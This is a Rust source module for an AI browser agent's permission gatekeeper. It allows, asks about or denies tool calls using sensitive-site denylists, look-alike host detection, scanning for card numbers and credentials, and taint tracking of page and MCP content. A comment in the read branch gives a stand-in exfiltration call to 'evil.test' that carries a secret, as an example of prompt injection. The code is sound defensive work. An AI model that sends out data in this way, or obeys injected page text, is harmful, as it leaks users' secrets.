//! The gatekeeper's pure decision: given a tool call, the target it was resolved to and the
//! permission state, allow it, ask the user, or deny it. No IO, no approvals flow.
//!
//! * [`decide`] runs the one order over a [`GateInput`] and returns a [`Verdict`].
//! * [`Origin`] / [`OriginPattern`] (from the protocol crate): origins and the patterns rules use.
//! * [`Rule`] with [`winning_rule`] precedence; [`SensitiveOrigins`], the denylist;
//!   [`classify`], the catalog's classification; [`scan`], the sensitive-payload detector
//!   (card numbers, credentials, secret-shaped values, emails).
//! * A page write is judged where it happens (the resolved page's origin) and where it leads:
//!   the links and form submissions of the elements it acts on ([`GateInput::destinations`]).
//! * Hosts: fullwidth forms are folded to ASCII when parsed; a homograph of a sensitive
//!   origin ([`Origin::look_alike`]) is denied like it, and any other internationalized host
//!   ([`Origin::is_idn`]) asks, whatever grants and allow rules say.
//! * Taint comes in through [`GateInput::taint`], computed by
//!   [`crate::taint::TaintLedger::taint_of`]; it forces a question for destinations (reads
//!   included) and for text typed into another origin.

mod payload;
mod rules;
mod secrets;
mod sensitive;

use panelot_protocol::engine::ApprovalFlag;
use panelot_protocol::engine::PermissionPolicy;
use panelot_protocol::engine::Provenance;
use panelot_protocol::engine::TaintSource;
use serde_json::Value;

use crate::target::Destination;

pub use panelot_protocol::Origin;
pub use panelot_protocol::OriginError;
pub use panelot_protocol::OriginPattern;
pub use panelot_protocol::Scheme;
pub use payload::CREDENTIAL_KEYS;
pub use payload::PayloadFindings;
pub use payload::contains_card;
pub use payload::contains_email;
pub use payload::is_credential_key;
pub use payload::is_luhn_valid;
pub use payload::scan;
pub use rules::Rule;
pub use rules::RuleError;
pub use rules::RuleSource;
pub use rules::RuleVerdict;
pub use rules::ToolPattern;
pub use rules::ToolPatternError;
pub use rules::winning_rule;
pub use secrets::is_high_entropy_token;
pub use secrets::is_secret_shaped;
pub use sensitive::BUILTIN_SENSITIVE_ORIGINS;
pub use sensitive::SensitiveOrigins;

use crate::tools::catalog;
use crate::tools::catalog::Access;
use crate::tools::catalog::TargetKind;
use crate::tools::catalog::ToolCategory;
use crate::tools::catalog::ToolInfo;
use crate::tools::catalog::classify;
use crate::tools::catalog::is_debugger_tool;

/// Everything one decision reads. Borrowed, so the caller keeps ownership of its state.
#[derive(Debug, Clone, Copy)]
pub struct GateInput<'a> {
    /// The tool name.
    pub tool: &'a str,
    /// The complete call parameters.
    pub params: &'a Value,
    /// URL of the page the tool acts on, as resolved just before judgement; ignored for
    /// destination and originless tools.
    pub page_url: Option<&'a str>,
    /// When that page is a frame of another origin, the URL of the page around it: a write in
    /// a frame of a page no call may touch is denied too.
    pub frame_of: Option<&'a str>,
    /// Where acting on the call's elements leads (a link, a form submission), as the page
    /// resolved them; judged like a navigation's destination.
    pub destinations: &'a [Destination],
    /// The call types into a password field: what it types is a credential.
    pub into_password: bool,
    /// The frozen policy of the run.
    pub policy: PermissionPolicy,
    /// Every rule in force.
    pub rules: &'a [Rule],
    /// The sensitive-origin denylist.
    pub sensitive: &'a SensitiveOrigins,
    /// This thread's session grants, keyed by [`grant_key`].
    pub session_grants: &'a [String],
    /// Origins the thread has accepted; emails may go there without asking.
    pub scope_origins: &'a [Origin],
    /// Parameters whose values came from elsewhere; page and MCP content counts as taint.
    /// Normally [`crate::taint::TaintLedger::taint_of`] over `params`.
    pub taint: &'a [TaintSource],
    /// Destinations (by URL, in `param`) whose URL holds a value seen in content of another
    /// origin than the page they are on: the page carries elsewhere what it did not write.
    pub destination_taint: &'a [TaintSource],
}

/// The gatekeeper's answer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// Run the call.
    Allow,
    /// Ask the user first.
    Ask {
        /// Reasons shown on the approval card.
        flags: Vec<ApprovalFlag>,
        /// What forced the question, for the card and the audit trail.
        reason: String,
    },
    /// Refuse without asking; the reason goes back to the model.
    Deny {
        /// What denied it.
        reason: String,
        /// The rule that denied it, when a rule did.
        rule_id: Option<String>,
    },
}

/// The session-grant key for a tool at an origin: `"{tool} {origin}"`, `"{tool} *"` when the
/// call has no origin.
pub fn grant_key(tool: &str, origin: Option<&Origin>) -> String {
    match origin {
        Some(origin) => format!("{tool} {origin}"),
        None => format!("{tool} *"),
    }
}

/// Parameters whose taint matters for tools judged by their destination: `url`, or the
/// `target` of `sidebar_open`.
pub(crate) const DESTINATION_PARAMS: &[&str] = &["url", "target"];

/// Parameters that carry typed text for fill tools; a path ending in one of these counts, so
/// `actions/0/params/text` inside `batch_actions` is covered.
const TYPED_TEXT_PARAMS: &[&str] = &["text", "values", "key"];

/// The flags every question about `tool` carries, whatever forced it.
fn tool_flags(tool: &str) -> Vec<ApprovalFlag> {
    if is_debugger_tool(tool) { vec![ApprovalFlag::EscalationL2] } else { Vec::new() }
}

/// Decides one tool call. The order is fixed; the first step that decides wins.
pub fn decide(input: &GateInput<'_>) -> Verdict {
    let info = classify(input.tool);
    let target = resolve_target(input, info.target);
    let origin = target.as_ref().ok().and_then(Option::as_ref);
    let grant = grant_key(input.tool, origin);

    // Step 0: reads never reach the write order and are never denied.
    match info.access {
        Access::AlwaysAllowed => return Verdict::Allow,
        Access::Read => {
            // A read of a destination fetches it: the places no write may go are no place to
            // read from either (a sensitive site's pages answer with the user's data).
            if is_destination(info.target)
                && let Some(denied) = origin.and_then(|origin| off_limits(input, origin))
            {
                return denied;
            }
            // A read that fetches a destination the page or an MCP server chose is how
            // injected text exfiltrates (`fetch_url https://evil.test/?d=<secret>`), so a tainted
            // destination asks under every policy and through grants.
            if is_destination(info.target)
                && let Some(reason) = taint_reason(input, info, origin)
            {
                let mut flags = tool_flags(input.tool);
                flags.push(ApprovalFlag::TaintedInput);
                return ask(flags, reason);
            }
            return match input.policy {
                PermissionPolicy::Always if !input.session_grants.contains(&grant) => ask(
                    tool_flags(input.tool),
                    format!("policy \"always\" asks before every call, including {}", input.tool),
                ),
                PermissionPolicy::Always | PermissionPolicy::Untrusted | PermissionPolicy::Auto => {
                    Verdict::Allow
                }
            };
        }
        Access::Write => {}
    }

    // Steps 1 and 2: dangerous schemes, then the sensitive-origin denylist, for the page and,
    // for a frame, the page around it.
    if let Some(denied) = origin.and_then(|origin| off_limits(input, origin)) {
        return denied;
    }
    if let Some(denied) = input
        .frame_of
        .and_then(|url| Origin::parse(url).ok())
        .and_then(|around| off_limits(input, &around))
    {
        return denied;
    }

    // Where the action leads: a link or a submit is judged like a navigation to there.
    if let Some(denied) = input.destinations.iter().find_map(|it| denied_destination(input, it)) {
        return denied;
    }

    let mut findings = scan(input.params);
    if info.category == Some(ToolCategory::Fill) {
        if input.into_password {
            findings.credentials.push("the password field".to_owned());
        }
        typed_text(input.params, "", &mut |path, text| {
            if secrets::is_high_entropy_token(text) && !findings.secrets.iter().any(|p| p == path) {
                findings.secrets.push(path.to_owned());
            }
        });
    }
    let payload = payload_reason(&findings, origin, input.scope_origins);
    let taint = taint_reason(input, info, origin).or_else(|| destination_taint_reason(input));
    let idn_destination = input
        .destinations
        .iter()
        .filter_map(|it| Origin::parse(&it.url).ok())
        .find(|it| it.is_idn() && Some(it) != origin);
    let mut flags = tool_flags(input.tool);
    if payload.is_some() {
        flags.push(ApprovalFlag::SensitivePayload);
    }
    if taint.is_some() {
        flags.push(ApprovalFlag::TaintedInput);
    }
    let idn = origin.is_some_and(|origin| origin.is_idn());
    if idn || idn_destination.is_some() {
        flags.push(ApprovalFlag::InternationalizedHost);
    }

    // Step 3: rules. An ask rule cannot be silenced by a session grant.
    let rule = winning_rule(input.rules, input.tool, origin);
    if let Some(rule) = rule {
        match rule.verdict {
            RuleVerdict::Deny => {
                return deny(format!("denied by rule {}", rule.id), Some(rule.id.clone()));
            }
            RuleVerdict::Ask => return ask(flags, format!("rule {} asks", rule.id)),
            RuleVerdict::Allow => {}
        }
    }
    // An unreadable target cannot be matched against anything that allows, so it asks.
    if let Err(err) = &target {
        return ask(flags, format!("could not read the target of {}: {err}", input.tool));
    }
    // Step 4: sensitive payload, even if a grant or an allow rule would cover the call.
    if let Some(reason) = payload {
        return ask(flags, reason);
    }
    // Step 5: taint, even under `auto`.
    if let Some(reason) = taint {
        return ask(flags, reason);
    }
    // Step 5b: an internationalized host may be a look-alike of a site the user trusts or a
    // sensitive one, so no grant or allow rule speaks for it and even `auto` asks.
    if let Some(origin) = origin
        && idn
    {
        return ask(
            flags,
            format!(
                "{origin} has an internationalized host name that can imitate another site; \
                 check the address"
            ),
        );
    }
    if let Some(destination) = idn_destination {
        return ask(
            flags,
            format!(
                "this leads to {destination}, an internationalized host name that can imitate \
                 another site; check the address"
            ),
        );
    }
    // Step 6: a session grant, then an allow rule.
    if input.session_grants.contains(&grant) {
        return Verdict::Allow;
    }
    if rule.is_some_and(|rule| rule.verdict == RuleVerdict::Allow) {
        return Verdict::Allow;
    }
    // Step 7: the policy.
    match input.policy {
        PermissionPolicy::Always => {
            ask(flags, format!("policy \"always\" asks before {}", input.tool))
        }
        PermissionPolicy::Untrusted => {
            ask(flags, format!("policy \"untrusted\" asks before {}", input.tool))
        }
        PermissionPolicy::Auto => Verdict::Allow,
    }
}

/// The call's origin: `Ok(None)` for originless tools, `Err` when it cannot be read.
fn resolve_target(input: &GateInput<'_>, kind: TargetKind) -> Result<Option<Origin>, OriginError> {
    match kind {
        TargetKind::Originless => Ok(None),
        TargetKind::Page => match input.page_url {
            Some(url) => Origin::parse(url).map(Some),
            None => Err(OriginError::Empty),
        },
        // An artifact of the thread goes to no site: judged as originless, deliberately.
        TargetKind::Destination | TargetKind::TabDestination
            if catalog::names_artifact(input.tool, input.params) =>
        {
            Ok(None)
        }
        TargetKind::Destination | TargetKind::TabDestination => {
            let url = DESTINATION_PARAMS
                .iter()
                .find_map(|name| input.params.get(*name).and_then(Value::as_str))
                .unwrap_or_default();
            Origin::parse(url).map(Some)
        }
    }
}

/// Calls `found` with each string of `value` under a typed-text parameter (`text`, `values`,
/// `key`, at any depth, so `batch_actions` is covered), by JSON path.
fn typed_text(value: &Value, path: &str, found: &mut impl FnMut(&str, &str)) {
    match value {
        Value::Object(map) => {
            for (key, item) in map {
                let item_path = format!("{path}/{key}");
                if TYPED_TEXT_PARAMS.contains(&key.as_str()) {
                    strings_in(item, &item_path, found);
                } else {
                    typed_text(item, &item_path, found);
                }
            }
        }
        Value::Array(items) => {
            for (idx, item) in items.iter().enumerate() {
                typed_text(item, &format!("{path}/{idx}"), found);
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
    }
}

fn strings_in(value: &Value, path: &str, found: &mut impl FnMut(&str, &str)) {
    match value {
        Value::String(text) => found(path, text),
        Value::Array(items) => {
            for (idx, item) in items.iter().enumerate() {
                strings_in(item, &format!("{path}/{idx}"), found);
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::Object(_) => {}
    }
}

/// The denial of an origin no call may touch: a dangerous scheme, a sensitive origin (no rule
/// overrides the denylist) or a look-alike of one, which is treated as that origin: whoever
/// registered `pаypal.com` wants it mistaken for PayPal.
fn off_limits(input: &GateInput<'_>, origin: &Origin) -> Option<Verdict> {
    if origin.scheme.is_dangerous() {
        return Some(deny(
            format!("{}: destinations are never allowed", origin.scheme.name()),
            None,
        ));
    }
    if let Some(pattern) = input.sensitive.find(origin) {
        return Some(deny(format!("{origin} is a sensitive origin ({})", describe(pattern)), None));
    }
    let imitated = origin.look_alike()?;
    input.sensitive.find(&imitated).map(|pattern| {
        deny(
            format!("{origin} imitates {imitated}, a sensitive origin ({})", describe(pattern)),
            None,
        )
    })
}

fn is_destination(kind: TargetKind) -> bool {
    match kind {
        TargetKind::Destination | TargetKind::TabDestination => true,
        TargetKind::Page | TargetKind::Originless => false,
    }
}

/// A denial for where an element leads: a dangerous scheme, a sensitive origin or a look-alike
/// of one. A `javascript:` link that does nothing (`javascript:void(0)`, the placeholder of a
/// link its click handler runs, like a button's) stays on the page; one that carries code runs
/// script the page wrote into the link, which the agent never runs. Any other destination that
/// cannot be read is left to the page's own judgement (the browser will not follow it either).
fn denied_destination(input: &GateInput<'_>, destination: &Destination) -> Option<Verdict> {
    if let Some(code) = javascript_body(&destination.url) {
        return (!is_no_op_script(&code)).then(|| {
            deny(
                "it runs script written into the link (a javascript: URL), which is never \
                 allowed"
                    .to_owned(),
                None,
            )
        });
    }
    let origin = Origin::parse(&destination.url).ok()?;
    if origin.scheme.is_dangerous() {
        return Some(deny(
            format!("it leads to a {}: URL, which is never allowed", origin.scheme.name()),
            None,
        ));
    }
    if let Some(pattern) = input.sensitive.find(&origin) {
        return Some(deny(
            format!("it leads to {origin}, a sensitive origin ({})", describe(pattern)),
            None,
        ));
    }
    let imitated = origin.look_alike()?;
    let pattern = input.sensitive.find(&imitated)?;
    Some(deny(
        format!(
            "it leads to {origin}, which imitates {imitated}, a sensitive origin ({})",
            describe(pattern)
        ),
        None,
    ))
}

/// The script of a `javascript:` URL (scheme matched as browsers do: case-insensitive, after
/// leading spaces and controls, with tabs and newlines inside removed), percent-decoded.
fn javascript_body(url: &str) -> Option<String> {
    let cleaned: String = url
        .trim_start_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    let (scheme, rest) = cleaned.split_once(':')?;
    scheme.eq_ignore_ascii_case("javascript").then(|| percent_decoded(rest))
}

/// Whether a `javascript:` URL's script does nothing: empty, a comment, or `void` of a number.
fn is_no_op_script(code: &str) -> bool {
    let compact: String = code.chars().filter(|c| !c.is_whitespace()).collect();
    let compact = compact.trim_end_matches(';');
    if compact.is_empty() || compact.starts_with("//") {
        return true;
    }
    let operand = compact.strip_prefix("void").unwrap_or_default();
    let operand = operand.strip_prefix('(').and_then(|it| it.strip_suffix(')')).unwrap_or(operand);
    !operand.is_empty() && operand.chars().all(|c| c.is_ascii_digit())
}

/// `%XX` escapes decoded; anything else kept as written.
fn percent_decoded(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut idx = 0;
    while idx < bytes.len() {
        let hex = bytes.get(idx + 1..idx + 3).and_then(|h| std::str::from_utf8(h).ok());
        match (bytes[idx], hex.and_then(|h| u8::from_str_radix(h, 16).ok())) {
            (b'%', Some(byte)) => {
                out.push(byte);
                idx += 3;
            }
            (byte, _) => {
                out.push(byte);
                idx += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn destination_taint_reason(input: &GateInput<'_>) -> Option<String> {
    input
        .destination_taint
        .iter()
        .find(|it| is_untrusted(it.provenance))
        .map(|it| format!("it leads to {} with a value that came from {}", it.param, it.source))
}

fn payload_reason(
    findings: &PayloadFindings,
    origin: Option<&Origin>,
    scope_origins: &[Origin],
) -> Option<String> {
    if let Some(path) = findings.cards.first() {
        return Some(format!("card number in {path}"));
    }
    if let Some(path) = findings.credentials.first() {
        return Some(format!("credential in {path}"));
    }
    if let Some(path) = findings.secrets.first() {
        return Some(format!("a secret (an API key, token or private key) in {path}"));
    }
    // Emails only matter when they leave the thread's scope; an originless call has no
    // scope to stay in (an MCP server is as far outside as it gets).
    let in_scope = origin.is_some_and(|origin| scope_origins.contains(origin));
    match findings.emails.first() {
        Some(path) if !in_scope => {
            Some(format!("email address in {path} sent outside the thread's scope"))
        }
        Some(_) | None => None,
    }
}

fn taint_reason(input: &GateInput<'_>, info: ToolInfo, origin: Option<&Origin>) -> Option<String> {
    input.taint.iter().filter(|it| is_untrusted(it.provenance)).find_map(|taint| {
        // Array indices are not names: `values/0` is judged as `values`.
        let leaf = taint
            .param
            .rsplit('/')
            .find(|segment| !segment.bytes().all(|b| b.is_ascii_digit()))
            .unwrap_or_default();
        match info.target {
            TargetKind::Destination | TargetKind::TabDestination
                if DESTINATION_PARAMS.contains(&leaf) =>
            {
                Some(format!("destination {} came from {}", taint.param, taint.source))
            }
            TargetKind::Page
                if info.category == Some(ToolCategory::Fill)
                    && TYPED_TEXT_PARAMS.contains(&leaf)
                    && Origin::parse(&taint.source).ok().as_ref() != origin =>
            {
                Some(format!("{} typed here came from {}", taint.param, taint.source))
            }
            TargetKind::Destination
            | TargetKind::TabDestination
            | TargetKind::Page
            | TargetKind::Originless => None,
        }
    })
}

fn is_untrusted(provenance: Provenance) -> bool {
    match provenance {
        Provenance::Page | Provenance::Mcp => true,
        Provenance::User | Provenance::Tool | Provenance::Import | Provenance::Plugin => false,
    }
}

fn describe(pattern: &OriginPattern) -> String {
    match pattern {
        OriginPattern::Any => "*".to_owned(),
        OriginPattern::Exact(origin) => origin.to_string(),
        OriginPattern::Domain(domain) => format!("*.{domain}"),
        OriginPattern::Scheme(scheme) => format!("{}:*", scheme.name()),
    }
}

fn ask(flags: Vec<ApprovalFlag>, reason: String) -> Verdict {
    Verdict::Ask { flags, reason }
}

fn deny(reason: String, rule_id: Option<String>) -> Verdict {
    Verdict::Deny { reason, rule_id }
}

#[cfg(test)]
#[path = "gatekeeper/decide_tests.rs"]
mod tests;
